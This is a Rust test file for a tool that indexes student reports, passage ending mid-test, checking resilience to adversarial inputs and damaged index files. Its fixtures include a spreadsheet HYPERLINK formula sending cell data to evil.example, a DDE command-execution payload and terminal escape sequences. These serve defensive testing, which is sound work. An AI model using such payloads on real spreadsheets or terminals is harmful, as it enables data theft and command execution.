//! Reliability, round two (issue 18): no report, folder or damaged index file can block a cohort, mislead staff or
//! reach their terminal. One test (or more) per defect found by the adversarial probes; every file is made by the
//! test in a temp folder, except the pseudonymisation check over the real corpus, which skips without it.

use cohort::synth::{write_cohort, CohortSpec, Rng, SyntheticReport};
use serde_json::Value;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::Duration;

use crate::common::{guarded as cohort, json_lines, run_guarded as run, run_ok_guarded as run_ok};

fn s(p: &Path) -> &str {
    p.to_str().expect("UTF-8 path")
}

fn write(path: &Path, bytes: &[u8]) {
    std::fs::create_dir_all(path.parent().expect("a parent folder")).expect("mkdir");
    std::fs::write(path, bytes).expect("write");
}

/// A generated cohort of `n` reports under `dir/cohort`, each closing with `zqmarkall` and its own marker.
struct Cohort {
    root: PathBuf,
    index: PathBuf,
    reports: Vec<SyntheticReport>,
}

fn make_cohort(dir: &Path, seed: u64, n: usize) -> Cohort {
    let root = dir.join("cohort");
    let index = dir.join("index");
    let reports = write_cohort(&root, &CohortSpec { seed, reports: n, cohort: None, quirks: false }).expect("generate");
    for r in &reports {
        let text =
            format!("{}\n\nWe close with zqmarkall and zqmark{}.\n", r.markdown.trim_end(), r.id.replace('_', ""));
        write(&readme(&root, &r.id), text.as_bytes());
    }
    Cohort { root, index, reports }
}

fn readme(root: &Path, id: &str) -> PathBuf {
    root.join(id).join("reports/README.md")
}

fn ingest_ok(c: &Cohort) -> String {
    let out = run(&["ingest", s(&c.root), "--index", s(&c.index)]);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "ingest failed: {stderr}");
    stderr
}

fn listed_ids(index: &Path) -> BTreeSet<String> {
    json_lines(&run_ok(&["reports", "--json", "--index", s(index)]))
        .iter()
        .map(|r| r["id"].as_str().expect("id").to_string())
        .collect()
}

fn generations(index: &Path) -> BTreeSet<String> {
    std::fs::read_dir(index)
        .expect("index folder")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("gen-"))
        .collect()
}

fn live(index: &Path) -> String {
    std::fs::read_to_string(index.join("CURRENT")).expect("CURRENT").trim().to_string()
}

/// The fields of a CSV text (RFC 4180 quoting, fields may span lines).
fn csv_fields(text: &str) -> Vec<String> {
    let mut fields = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            '"' if quoted => quoted = false,
            '"' if field.is_empty() => quoted = true,
            ',' | '\n' if !quoted => fields.push(std::mem::take(&mut field)),
            _ => field.push(c),
        }
    }
    if !field.is_empty() {
        fields.push(field);
    }
    fields
}

fn formula_cells(csv: &str) -> Vec<String> {
    csv_fields(csv).into_iter().filter(|f| f.starts_with(['=', '+', '-', '@', '\t', '\r'])).collect()
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";

/// A small report (explicit files are ingested whatever they look like) whose answers start like formulas.
fn formula_report() -> String {
    format!(
        "### Question 1\n> Enter the group number\n> Answer:\n\n{FORMULA}\n\n### Question 2\n> Describe your setup\n> \
         Answer:\n\n+cmd|' /C calc'!A0 then more words\n\n### Question 3\n> What did you test\n> Answer:\n\n@SUM(1+1) \
         and -2+3 here\n"
    )
}

// ---------------------------------------------------------------------------------------------------------------
// 1. CSV formula injection
// ---------------------------------------------------------------------------------------------------------------

#[test]
fn csv_cells_never_start_a_formula_and_parquet_keeps_the_text() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("evil/README.md");
    write(&file, formula_report().as_bytes());
    let index = dir.path().join("index");
    let out_dir = dir.path().join("out");
    run_ok(&["ingest", s(&file), "--index", s(&index), "--cohort", "=1+2"]);
    run_ok(&["export", "--index", s(&index), "--out", s(&out_dir)]);
    for name in ["reports", "checklist", "answers"] {
        let csv = std::fs::read_to_string(out_dir.join(format!("{name}.csv"))).expect("csv");
        assert!(formula_cells(&csv).is_empty(), "{name}.csv has cells a spreadsheet runs: {:?}", formula_cells(&csv));
    }
    let answers = std::fs::read_to_string(out_dir.join("answers.csv")).expect("csv");
    assert!(csv_fields(&answers).iter().any(|f| f == &format!("'{FORMULA}")), "the answer is kept, made inert");
    // Parquet keeps the exact text.
    let file = std::fs::File::open(out_dir.join("answers.parquet")).expect("parquet");
    use polars::prelude::*;
    let df = ParquetReader::new(file).finish().expect("read parquet");
    let markdown: Vec<String> =
        df.column("markdown").expect("markdown").str().expect("text").iter().flatten().map(str::to_string).collect();
    assert!(markdown.iter().any(|m| m.starts_with(FORMULA)), "{markdown:?}");

    // The other CSV cohort writes: statistics.
    let stats = run_ok(&["stats", "facts", "--by-cohort", "--csv", "--index", s(&index)]);
    assert!(stats.contains("'=1+2"), "the cohort label is kept, made inert:\n{stats}");
    assert!(formula_cells(&stats).is_empty(), "{stats}");
}

// ---------------------------------------------------------------------------------------------------------------
// 2. Terminal escapes
// ---------------------------------------------------------------------------------------------------------------

#[test]
fn control_characters_from_reports_never_reach_the_terminal() {
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 18, 2);
    // A second copy of the first report (a copied answer) carrying the escapes, so dupes shows the pair.
    let hostile =
        "\n\nThe zqmarkesc pipeline \x1b]0;owned title\x07 clears \x1b[2J the screen \u{9b}31m and \u{202e}reverses \
                   text while we trained the model on the cluster with many shared words in this long copied answer.\n";
    let original = std::fs::read_to_string(readme(&c.root, &c.reports[0].id)).expect("read");
    write(&readme(&c.root, &c.reports[0].id), format!("{}{hostile}", original.trim_end()).as_bytes());
    write(&readme(&c.root, "copy_group"), format!("{}{hostile}", original.trim_end()).as_bytes());
    ingest_ok(&c);
    // Raw ESC and BEL bytes; C1 and bidi characters are looked for as characters (their UTF-8 bytes are not).
    let is_escape = |b: &u8| matches!(b, 0x1b | 0x07);
    let has_raw_controls = |out: &[u8]| {
        let text = String::from_utf8_lossy(out);
        out.iter().any(is_escape) || text.contains('\u{9b}') || text.contains('\u{202e}')
    };

    let human = run(&["search", "zqmarkesc", "--index", s(&c.index)]);
    assert!(human.status.success());
    assert!(String::from_utf8_lossy(&human.stdout).contains("zqmarkesc"), "the hit is shown");
    assert!(!has_raw_controls(&human.stdout), "{:?}", String::from_utf8_lossy(&human.stdout));
    let json = run(&["search", "zqmarkesc", "--json", "--index", s(&c.index)]);
    // JSON escapes the C0 controls (`\u001b`); C1 and bidi characters are legal in JSON strings and kept exact.
    assert!(!json.stdout.iter().any(is_escape), "JSON escapes control characters");
    let hits = json_lines(&String::from_utf8_lossy(&json.stdout));
    assert!(hits.iter().all(|h| h["snippet"].as_str().is_some()), "{hits:?}");

    let shown = run(&["dupes", s(&c.root), "--show", &c.reports[0].id, "copy_group", "--width", "200"]);
    assert!(shown.status.success(), "{}", String::from_utf8_lossy(&shown.stderr));
    assert!(String::from_utf8_lossy(&shown.stdout).contains("zqmarkesc"), "the shared answer is shown");
    assert!(!has_raw_controls(&shown.stdout), "{:?}", String::from_utf8_lossy(&shown.stdout));
}

// ---------------------------------------------------------------------------------------------------------------
// 3. Quadratic ingest
// ---------------------------------------------------------------------------------------------------------------

#[test]
fn ingest_of_400000_bare_question_headings_finishes() {
    // 221 s before the fix (a scan of every warning for every answer), about as long as `parse` after it. The
    // guard is a bound against quadratic work, 50x above the time the fixed ingest takes here, not a timing.
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("many/README.md");
    write(&file, "### Question\n".repeat(400_000).as_bytes());
    let index = dir.path().join("index");
    let out = cohort()
        .timeout(Duration::from_secs(120))
        .args(["ingest", s(&file), "--index", s(&index)])
        .output()
        .expect("run cohort");
    assert!(
        out.status.success(),
        "ingest of 400,000 headings: {:?} {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(listed_ids(&index), BTreeSet::from(["README".to_string()]));
}

// ---------------------------------------------------------------------------------------------------------------
// 4. Damaged index files
// ---------------------------------------------------------------------------------------------------------------

fn copy_tree(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).expect("mkdir");
    for e in std::fs::read_dir(from).expect("read dir").flatten() {
        let (src, dst) = (e.path(), to.join(e.file_name()));
        if e.file_type().expect("type").is_dir() {
            copy_tree(&src, &dst);
        } else {
            std::fs::copy(&src, &dst).expect("copy");
        }
    }
}

/// The files of the live generation by kind: the manifest, each frame, and each kind of tantivy file.
fn index_files_by_kind(index: &Path) -> Vec<(String, Vec<PathBuf>)> {
    let generation = index.join(live(index));
    let mut kinds: std::collections::BTreeMap<String, Vec<PathBuf>> = Default::default();
    kinds.entry("manifest.json".into()).or_default().push(generation.join("manifest.json"));
    for frame in ["reports", "checklist", "answers"] {
        kinds.entry(format!("{frame}.parquet")).or_default().push(generation.join(format!("{frame}.parquet")));
    }
    for e in std::fs::read_dir(generation.join("tantivy")).expect("tantivy").flatten() {
        let name = e.file_name().to_string_lossy().into_owned();
        if name.ends_with(".lock") {
            continue;
        }
        // Segment files by extension; meta.json and .managed.json each on their own.
        let kind = match name.rsplit_once('.') {
            Some((stem, ext)) if !stem.is_empty() && ext != "json" => format!("tantivy .{ext}"),
            _ => format!("tantivy {name}"),
        };
        kinds.entry(kind).or_default().push(e.path());
    }
    kinds.into_iter().collect()
}

/// Flips a few bytes of a file (or, for some seeds, cuts it short).
fn damage(file: &Path, rng: &mut Rng) -> String {
    let mut bytes = std::fs::read(file).expect("read");
    if bytes.is_empty() {
        bytes.push(0);
        std::fs::write(file, &bytes).expect("write");
        return "one byte added".into();
    }
    if rng.below(5) == 0 {
        let len = rng.below(bytes.len());
        bytes.truncate(len);
        std::fs::write(file, &bytes).expect("write");
        return format!("cut to {len} bytes");
    }
    let mut what = Vec::new();
    for _ in 0..1 + rng.below(3) {
        let at = rng.below(bytes.len());
        let flip = 1 + rng.below(255) as u8;
        bytes[at] ^= flip;
        what.push(format!("byte {at} ^ {flip:#x}"));
    }
    std::fs::write(file, &bytes).expect("write");
    what.join(", ")
}

/// The read commands staff run, with the index as their last argument; `export` writes into `out`.
fn read_commands(id: &str, out: &Path) -> Vec<Vec<String>> {
    let v = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    vec![
        v(&["search", "zqmarkall", "--json", "--limit", "1000", "--index"]),
        v(&["search", "model data", "--json", "--limit", "1000", "--index"]),
        v(&["reports", "--json", "--index"]),
        v(&["stats", "checklist", "--json", "--index"]),
        v(&["stats", "facts", "--json", "--index"]),
        v(&["show", id, "--index"]),
        v(&["check", "--json", "--index"]),
        v(&["dupes", "--json", "--min-similarity", "0", "--index"]),
        v(&["export", "--out", s(out), "--index"]),
    ]
}

/// What a command answered: its output, and for `export` the files it wrote.
fn answer_of(args: &[String], index: &Path, out: &Path) -> Output {
    let _ = std::fs::remove_dir_all(out);
    let mut all: Vec<&str> = args.iter().map(String::as_str).collect();
    all.push(s(index));
    let mut o = run(&all);
    if args[0] == "export" && o.status.success() {
        for name in ["reports", "checklist", "answers"] {
            o.stdout.extend(std::fs::read(out.join(format!("{name}.csv"))).unwrap_or_default());
        }
    }
    o
}

/// Lines sorted, with search scores left out: a rebuilt index holds the same answers, maybe in other segments.
fn normalised(stdout: &[u8]) -> Vec<String> {
    let mut lines: Vec<String> = String::from_utf8_lossy(stdout)
        .lines()
        .map(|l| match serde_json::from_str::<Value>(l) {
            Ok(Value::Object(mut o)) => {
                o.remove("score");
                Value::Object(o).to_string()
            }
            _ => l.to_string(),
        })
        .collect();
    lines.sort();
    lines
}

#[test]
fn a_damaged_index_answers_as_before_or_says_so_and_ingest_repairs_it() {
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 1818, 5);
    ingest_ok(&c);
    let id = c.reports[0].id.clone();
    let out = dir.path().join("export");
    let commands = read_commands(&id, &out);
    let baseline: Vec<Output> = commands.iter().map(|a| answer_of(a, &c.index, &out)).collect();
    for (a, b) in commands.iter().zip(&baseline) {
        assert!(b.status.success(), "{a:?} on the undamaged index: {}", String::from_utf8_lossy(&b.stderr));
    }
    let kinds = index_files_by_kind(&c.index);
    let kind_names: Vec<&str> = kinds.iter().map(|(k, _)| k.as_str()).collect();
    for must in [
        "manifest.json",
        "answers.parquet",
        "tantivy .idx",
        "tantivy .pos",
        "tantivy .fast",
        "tantivy .store",
        "tantivy meta.json",
    ] {
        assert!(kind_names.contains(&must), "{must} among {kind_names:?}");
    }

    let mut failures = Vec::new();
    let mut refused = 0;
    for seed in 0..20u64 {
        let mut rng = Rng::new(seed);
        for (kind, files) in &kinds {
            let damaged = dir.path().join(format!("damaged-{seed}"));
            let _ = std::fs::remove_dir_all(&damaged);
            copy_tree(&c.index, &damaged);
            let victim = &files[rng.below(files.len())];
            let relative = victim.strip_prefix(&c.index).expect("inside the index");
            let how = damage(&damaged.join(relative), &mut rng);
            let case = format!("seed {seed}, {kind} ({}: {how})", relative.display());
            for (args, before) in commands.iter().zip(&baseline) {
                let after = answer_of(args, &damaged, &out);
                let stderr = String::from_utf8_lossy(&after.stderr);
                let answered_the_same = after.status.success() && after.stdout == before.stdout;
                let clear_refusal = after.status.code() == Some(2)
                    && stderr.lines().count() == 1
                    && stderr.starts_with("cohort: error: ")
                    && stderr.contains("cohort ingest")
                    && !stderr.contains("panicked");
                if clear_refusal {
                    refused += 1;
                } else if !answered_the_same {
                    failures.push(format!("{case}: {} -> {:?}\n{stderr}", args[0], after.status.code()));
                }
            }
            // An ingest repairs it without anyone deleting the index.
            let repair = run(&["ingest", s(&c.root), "--index", s(&damaged)]);
            if !repair.status.success() {
                failures.push(format!("{case}: ingest did not repair: {}", String::from_utf8_lossy(&repair.stderr)));
            } else {
                for k in [0, 2, 3] {
                    let after = answer_of(&commands[k], &damaged, &out);
                    if !after.status.success() || normalised(&after.stdout) != normalised(&baseline[k].stdout) {
                        failures.push(format!("{case}: after repair, {:?} differs", commands[k]));
                    }
                }
            }
            let _ = std::fs::remove_dir_all(&damaged);
        }
    }
    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
    assert!(refused > 0, "damage was noticed at least once");
}

#[test]
fn ingest_check_names_each_damaged_file_and_exits_2_and_0_when_sound() {
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 2525, 4);
    ingest_ok(&c);
    let check = |index: &Path| run(&["ingest", "--check", "--index", s(index)]);
    let sound = check(&c.index);
    assert_eq!(sound.status.code(), Some(0), "{}", String::from_utf8_lossy(&sound.stderr));
    assert!(String::from_utf8_lossy(&sound.stderr).contains("is sound"));

    let kinds = index_files_by_kind(&c.index);
    let file_of = |kind: &str| kinds.iter().find(|(k, _)| k == kind).map(|(_, f)| f[0].clone()).expect(kind);
    let (frame, store) = (file_of("answers.parquet"), file_of("tantivy .store"));
    for victim in [&frame, &store] {
        let mut bytes = std::fs::read(victim).expect("read");
        let at = bytes.len() - 1;
        bytes[at / 2] ^= 0x10;
        std::fs::write(victim, &bytes).expect("write");
    }
    let damaged = check(&c.index);
    let stderr = String::from_utf8_lossy(&damaged.stderr);
    assert_eq!(damaged.status.code(), Some(2), "{stderr}");
    for victim in [&frame, &store] {
        let name = victim.file_name().expect("name").to_string_lossy();
        assert!(stderr.lines().any(|l| l.contains("damaged") && l.contains(&*name)), "{name} named: {stderr}");
    }
    assert!(stderr.contains("has 2 damaged files"), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");

    // The folder it checks must hold an index; the reports are not needed.
    let none = check(&dir.path().join("nowhere"));
    assert_eq!(none.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&none.stderr).contains("cohort ingest"));
    // Another ingest repairs it, and the check says so.
    ingest_ok(&c);
    assert_eq!(check(&c.index).status.code(), Some(0));
}

// ---------------------------------------------------------------------------------------------------------------
// 5. Recovery after a failed ingest
// ---------------------------------------------------------------------------------------------------------------

#[test]
fn ingest_rebuilds_what_it_cannot_validate_instead_of_reusing_it() {
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 505, 3);
    ingest_ok(&c);
    let stats = run_ok(&["stats", "checklist", "--json", "--index", s(&c.index)]);
    // A truncated frame: nothing changed in the reports, yet the next ingest must not keep (or build on) it.
    let frame = c.index.join(live(&c.index)).join("checklist.parquet");
    let bytes = std::fs::read(&frame).expect("read");
    std::fs::write(&frame, &bytes[..bytes.len() / 2]).expect("truncate");
    ingest_ok(&c);
    assert_eq!(run_ok(&["stats", "checklist", "--json", "--index", s(&c.index)]), stats, "the frame is rebuilt");

    // `--rebuild` makes a fresh generation from the reports, whatever the live one holds.
    let before = live(&c.index);
    let out = run(&["ingest", s(&c.root), "--index", s(&c.index), "--rebuild"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_ne!(live(&c.index), before, "a new generation");
    assert_eq!(run_ok(&["stats", "checklist", "--json", "--index", s(&c.index)]), stats);
}

#[test]
fn generations_left_by_a_crashed_ingest_go_and_the_previous_live_one_stays() {
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 506, 3);
    ingest_ok(&c);
    let first = live(&c.index);
    // What an ingest killed half-way leaves: a newer generation that never went live.
    let n: u64 = first.trim_start_matches("gen-").parse().expect("number");
    let orphan = format!("gen-{:06}", n + 1);
    write(&c.index.join(&orphan).join("tantivy/meta.json"), b"{");
    // A changed report makes the next ingest write a generation.
    let file = readme(&c.root, &c.reports[0].id);
    let text = std::fs::read_to_string(&file).expect("read");
    write(&file, format!("{text}\nOne more sentence.\n").as_bytes());
    ingest_ok(&c);
    let now = live(&c.index);
    assert_eq!(
        generations(&c.index),
        BTreeSet::from([first.clone(), now.clone()]),
        "orphan {orphan} removed, {first} kept"
    );
}

#[test]
fn a_failed_ingest_leaves_no_generation_behind() {
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 507, 3);
    ingest_ok(&c);
    let first = live(&c.index);
    // A large new report, and a file size limit the new generation's files pass (a disk that fills up): the
    // writes fail with EFBIG (the signal that would kill the process is ignored, as a full disk does not send one).
    let words: String = (0..30_000).map(|i| format!("word{} ", i % 977)).collect();
    write(&readme(&c.root, "big_group"), format!("{}\n\n{words}\n", c.reports[1].markdown).as_bytes());
    let bin = assert_cmd::cargo::cargo_bin("cohort");
    for _ in 0..2 {
        let out = std::process::Command::new("sh")
            .arg("-c")
            .arg("trap '' XFSZ; ulimit -f 64; exec \"$0\" \"$@\"")
            .arg(&bin)
            .args(["ingest", s(&c.root), "--index", s(&c.index)])
            .output()
            .expect("run sh");
        assert_eq!(out.status.code(), Some(2), "the write fails: {}", String::from_utf8_lossy(&out.stderr));
        assert_eq!(generations(&c.index), BTreeSet::from([first.clone()]), "nothing left behind");
        assert_eq!(live(&c.index), first);
    }
    ingest_ok(&c);
    assert!(listed_ids(&c.index).contains("big_group"));
}

// ---------------------------------------------------------------------------------------------------------------
// 6. A folder name that is not UTF-8
// ---------------------------------------------------------------------------------------------------------------

#[test]
fn a_folder_name_that_is_not_utf8_does_not_stop_the_ingest() {
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 606, 3);
    let odd = c.root.join(std::ffi::OsStr::from_bytes(b"gr\xffoup"));
    write(&odd.join("README.md"), c.reports[0].markdown.as_bytes());
    let out = run(&["ingest", s(&c.root), "--index", s(&c.index)]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let ids = listed_ids(&c.index);
    for r in &c.reports {
        assert!(ids.contains(&r.id), "{} ingested: {ids:?}", r.id);
    }
    assert!(stderr.contains("gr") && stderr.contains("UTF-8"), "the odd folder is named: {stderr}");
    assert_eq!(generations(&c.index).len(), 1, "no orphan generation");
}

// ---------------------------------------------------------------------------------------------------------------
// 7. check --index reads through the guarded reader
// ---------------------------------------------------------------------------------------------------------------

#[test]
fn check_index_never_opens_a_fifo_or_follows_a_link_out_of_the_cohort() {
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 707, 3);
    ingest_ok(&c);
    // One report replaced by a FIFO, another by a link to a file outside the cohort.
    let fifo = readme(&c.root, &c.reports[0].id);
    std::fs::remove_file(&fifo).expect("rm");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status().is_ok_and(|s| s.success());
    let secret = dir.path().join("secret.md");
    write(&secret, format!("{}\nzqmarksecret\n", c.reports[1].markdown).as_bytes());
    let linked = readme(&c.root, &c.reports[1].id);
    std::fs::remove_file(&linked).expect("rm");
    std::os::unix::fs::symlink(&secret, &linked).expect("symlink");
    let out = cohort()
        .timeout(Duration::from_secs(60))
        .args(["check", "--json", "--index", s(&c.index)])
        .output()
        .expect("run cohort");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.code().is_some(), "check finished (it did not block on the FIFO): {stderr}");
    if made {
        assert!(stderr.contains(&format!("{}: not a regular file", fifo.display())), "{stderr}");
    }
    assert!(stderr.contains(&format!("{}: symbolic link leads outside", linked.display())), "{stderr}");
    let checked: Vec<Value> = json_lines(&String::from_utf8_lossy(&out.stdout));
    assert!(!checked.iter().any(|r| r["id"] == c.reports[1].id.as_str()), "the linked file was not read");
}

// ---------------------------------------------------------------------------------------------------------------
// 9. Removing reports needs evidence
// ---------------------------------------------------------------------------------------------------------------

#[test]
fn reports_are_removed_only_when_shown_to_be_gone() {
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 909, 4);
    ingest_ok(&c);
    let all: BTreeSet<String> = c.reports.iter().map(|r| r.id.clone()).collect();
    assert_eq!(listed_ids(&c.index), all);

    // A report that became unreadable (here: replaced by a FIFO) is kept, with a word on it.
    let fifo = readme(&c.root, &c.reports[0].id);
    std::fs::remove_file(&fifo).expect("rm");
    if std::process::Command::new("mkfifo").arg(&fifo).status().is_ok_and(|s| s.success()) {
        let stderr = ingest_ok(&c);
        assert_eq!(listed_ids(&c.index), all, "kept: {stderr}");
        assert!(stderr.contains("kept the version ingested before"), "{stderr}");
        std::fs::remove_file(&fifo).expect("rm");
    }
    // A file deleted from its folder is gone: removed.
    let stderr = ingest_ok(&c);
    let mut rest = all.clone();
    rest.remove(&c.reports[0].id);
    assert_eq!(listed_ids(&c.index), rest, "{stderr}");

    // A folder that became empty (an unmounted share) removes nothing without --prune.
    for e in std::fs::read_dir(&c.root).expect("root").flatten() {
        std::fs::remove_dir_all(e.path()).expect("rm");
    }
    let out = run(&["ingest", s(&c.root), "--index", s(&c.index)]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(listed_ids(&c.index), rest, "nothing removed: {stderr}");
    assert!(stderr.contains("--prune"), "{stderr}");
    let out = run(&["ingest", s(&c.root), "--index", s(&c.index), "--prune"]);
    assert!(listed_ids(&c.index).is_empty() || !out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn one_nul_byte_does_not_reject_a_text_report() {
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 910, 2);
    let file = readme(&c.root, &c.reports[0].id);
    let mut bytes = std::fs::read(&file).expect("read");
    bytes.insert(200.min(bytes.len()), 0);
    std::fs::write(&file, &bytes).expect("write");
    let stderr = ingest_ok(&c);
    assert!(listed_ids(&c.index).contains(&c.reports[0].id), "{stderr}");
}

// ---------------------------------------------------------------------------------------------------------------
// 10. A read-only index
// ---------------------------------------------------------------------------------------------------------------

fn modified(path: &Path) -> std::time::SystemTime {
    std::fs::metadata(path).and_then(|m| m.modified()).expect("mtime")
}

#[test]
fn search_writes_nothing_into_the_index() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 1010, 2);
    ingest_ok(&c);
    let tantivy = c.index.join(live(&c.index)).join("tantivy");
    // A copy of an index need not hold the lock files tantivy leaves behind.
    let locks = |dir: &Path| -> Vec<String> {
        std::fs::read_dir(dir)
            .expect("tantivy")
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.ends_with(".lock"))
            .collect()
    };
    for lock in locks(&tantivy) {
        std::fs::remove_file(tantivy.join(lock)).expect("rm");
    }
    let before = modified(&tantivy);
    // Read-only, as staff share it (the superuser writes anyway: the folder's time then tells).
    let set_mode = |mode: u32| {
        for p in [c.index.clone(), c.index.join(live(&c.index)), tantivy.clone()] {
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).expect("chmod");
        }
    };
    set_mode(0o555);
    let out = run(&["search", "zqmarkall", "--json", "--index", s(&c.index)]);
    set_mode(0o755);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(json_lines(&String::from_utf8_lossy(&out.stdout)).len(), 2);
    assert_eq!(locks(&tantivy), Vec::<String>::new(), "no lock file taken");
    assert_eq!(modified(&tantivy), before, "search created or removed nothing in {}", tantivy.display());
}

// ---------------------------------------------------------------------------------------------------------------
// 11. Pseudonymisation of ids glued to text
// ---------------------------------------------------------------------------------------------------------------

fn student_numbers(text: &str) -> Vec<String> {
    let re = regex::Regex::new(r"[sS]\d{6}").expect("regex");
    re.find_iter(text).map(|m| m.as_str().to_string()).collect()
}

fn exported_student_numbers(index: &Path, out: &Path) -> Vec<String> {
    run_ok(&["export", "--pseudonymise", "--index", s(index), "--out", s(out)]);
    let mut found = Vec::new();
    for name in ["reports", "checklist", "answers"] {
        found.extend(student_numbers(&std::fs::read_to_string(out.join(format!("{name}.csv"))).expect("csv")));
    }
    found
}

#[test]
fn pseudonymise_replaces_student_numbers_glued_to_other_text() {
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 1111, 2);
    let file = readme(&c.root, &c.reports[0].id);
    let text = std::fs::read_to_string(&file).expect("read");
    let glued = "See https://wandb.ai/nwusers214995/project, ids s2182105 and s555555s666666 and x_s123457y.";
    write(&file, format!("{}\n\n{glued}\n", text.trim_end()).as_bytes());
    ingest_ok(&c);
    let left = exported_student_numbers(&c.index, &dir.path().join("out"));
    assert!(left.is_empty(), "student numbers survived: {left:?}");
}

#[test]
fn no_student_number_survives_a_pseudonymised_export_of_the_corpus() {
    let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/corpus");
    let corpus = if corpus.is_dir() { corpus } else { PathBuf::from("/work/shared/corpus") };
    if !corpus.is_dir() {
        println!("skipped: no corpus at ../shared/corpus");
        return;
    }
    let dir = tempfile::tempdir().expect("temp dir");
    let index = dir.path().join("index");
    run_ok(&["ingest", s(&corpus), "--index", s(&index)]);
    let left = exported_student_numbers(&index, &dir.path().join("out"));
    assert!(left.is_empty(), "{} student numbers survived (not printed)", left.len());
}

// ---------------------------------------------------------------------------------------------------------------
// 12. Extreme --limit
// ---------------------------------------------------------------------------------------------------------------

#[test]
fn search_limit_extremes() {
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 1212, 3);
    ingest_ok(&c);
    let hits = |limit: &str| {
        let out = run(&["search", "zqmarkall", "--json", "--limit", limit, "--index", s(&c.index)]);
        assert!(out.status.success(), "--limit {limit}: {:?} {}", out.status, String::from_utf8_lossy(&out.stderr));
        json_lines(&String::from_utf8_lossy(&out.stdout)).len()
    };
    assert_eq!(hits("0"), 0, "--limit 0 is no hits");
    assert_eq!(hits("2"), 2);
    assert_eq!(hits("4294967296"), 3);
    assert_eq!(hits(&u64::MAX.to_string()), 3);
}

// ---------------------------------------------------------------------------------------------------------------
// 8. Memory: the cost of one report is bounded
// ---------------------------------------------------------------------------------------------------------------

#[test]
fn a_report_with_millions_of_checklist_lines_keeps_a_bounded_checklist() {
    // Each item kept costs hundreds of bytes (item, warning): a 19 MB file of `- [x] a` lines took 1.2 GB to
    // ingest. The template's checklists have about a hundred items; a report keeps at most 2,000, and says so.
    let text = format!(
        "### Question 1\n> Enter the group number\n> Answer:\n7\n\n### Checklist\n{}",
        "- [x] a\n".repeat(200_000)
    );
    let report = cohort::parse_bytes(Path::new("big.md"), text.as_bytes()).expect("a report");
    assert!(report.checklist.len() <= 2_000, "{} checklist items kept", report.checklist.len());
    assert!(report.warnings.len() <= 2_100, "{} warnings kept", report.warnings.len());
    assert!(
        report.warnings.iter().any(|w| w.message.contains("more than 2000 items") && w.line == Some(2_007)),
        "the cut is stated at its line"
    );
}

// ---------------------------------------------------------------------------------------------------------------
// 13. A failed write leaves no truncated file
// ---------------------------------------------------------------------------------------------------------------

#[test]
fn a_failed_export_leaves_no_truncated_file() {
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 1313, 3);
    let words: String = (0..30_000).map(|i| format!("word{} ", i % 977)).collect();
    write(&readme(&c.root, "big_group"), format!("{}\n\n{words}\n", c.reports[1].markdown).as_bytes());
    ingest_ok(&c);
    let out_dir = dir.path().join("out");
    // A file size limit the answers frame passes (a disk filling up): the write fails with EFBIG.
    let bin = assert_cmd::cargo::cargo_bin("cohort");
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg("trap '' XFSZ; ulimit -f 64; exec \"$0\" \"$@\"")
        .arg(&bin)
        .args(["export", "--index", s(&c.index), "--out", s(&out_dir)])
        .output()
        .expect("run sh");
    assert_eq!(out.status.code(), Some(2), "the write fails: {}", String::from_utf8_lossy(&out.stderr));
    // Whatever is there is whole: each file reads back as a frame (Parquet) or ends its last line (CSV).
    for e in std::fs::read_dir(&out_dir).expect("out").flatten() {
        let name = e.file_name().to_string_lossy().into_owned();
        let bytes = std::fs::read(e.path()).expect("read");
        if name.ends_with(".parquet") {
            use polars::prelude::*;
            assert!(
                ParquetReader::new(std::fs::File::open(e.path()).expect("open")).finish().is_ok(),
